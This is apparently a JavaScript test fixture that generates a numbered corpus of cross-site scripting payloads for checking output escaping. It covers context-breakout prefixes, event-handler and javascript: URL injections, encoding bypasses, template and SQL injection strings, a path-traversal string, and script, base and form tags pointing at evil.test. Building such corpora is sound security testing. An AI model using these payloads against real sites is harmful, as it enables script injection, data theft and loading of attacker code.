// The corpus of WB-01: texts that become a script wherever something forgets to
// escape. Made of ways out of a context and of what is then tried; each says its
// own number, so that what fired can be named.

/** Out of text, attributes, comments, raw text, scripts, styles and URLs. */
const EXITS = [
  '', '">', "'>", '`>', '" ', "' ", '-->', '</title>', '</textarea>', '</script>', '</style>', '</noscript>', '</bdi></h1>',
  ']]>', '*/', '\\">', '&quot;>', '%22%3E',
];

/** What is tried there. `@` is the call. */
const TRIES = [
  '<script>@</script>',
  '<img src=x onerror=@>',
  '<svg onload=@>',
  '<svg><script>@</script></svg>',
  '<iframe srcdoc="<script>parent.@</script>">',
  '<input autofocus onfocus=@>',
  '<details open ontoggle=@>',
  '<a id=x href=javascript:@ autofocus>x</a>',
  'onerror=@ onfocus=@ onmouseover=@ autofocus x=',
];

/** What stands for itself. */
const ALONE = [
  'javascript:@', 'JaVaScRiPt:@', 'java%0ascript:@', 'data:text/html,<script>@</script>', 'vbscript:@', '//evil.test/x',
  '<base href=//evil.test/>', '<meta http-equiv=refresh content="0;url=javascript:@">', '<link rel=stylesheet href=//evil.test>',
  '<style>*{display:none}</style>', '<style>@import "//evil.test"</style>', '<form action=//evil.test><button>x', '<object data=javascript:@>',
  '<embed src=javascript:@>', '<math><a xlink:href=javascript:@>x', '<template><script>@</script></template>', '<noscript><p title="</noscript><img src=x onerror=@>">',
  '<video><source onerror=@></video>', '<body onload=@>', '<marquee onstart=@>', '<xmp><img src=x onerror=@>', '<plaintext>', '<!--', '<![CDATA[<img src=x onerror=@>]]>',
  '<scr<script>ipt>@</scr</script>ipt>', '<IMG """><SCRIPT>@</SCRIPT>">', '<img/src=x/onerror=@>', '<svg/onload=@//', '<<script>@//<</script>', '<script src=//evil.test></script>',
  '{{7*7}}', '{{constructor.constructor("@")()}}', '${@}', '#{@}', '<%= @ %>', '{% include "x" %}', '{{ name|safe }}', '[[@]]', ';@//', "';@//", '";@//', '`;@//', '\\u003cscript\\u003e@\\u003c/script\\u003e',
  '&lt;script&gt;@&lt;/script&gt;', '&#60;script&#62;@', '&amp;lt;b&amp;gt;', '%3Cscript%3E@%3C/script%3E', '+ADw-script+AD4-@+ADw-/script+AD4-', '＜script＞@＜/script＞', '‹img src=x onerror=@›', '<ſcript>@</ſcript>',
  '&', '<', '>', '"', "'", '`', '=', '\\', '%', '%00', '&#0;', '\u{1F409}<b>龙</b>', 'a&b=c;d', '</', '<a', '<?xml version="1.0"?>', "'||'1'='1", '$(@)', '../../etc/passwd',
];

const made = [...EXITS.flatMap((exit) => TRIES.map((attempt) => exit + attempt)), ...ALONE];

export const PAYLOADS = [...new Set(made)].map((text, number) => text.replaceAll('@', `alert(${number})`));
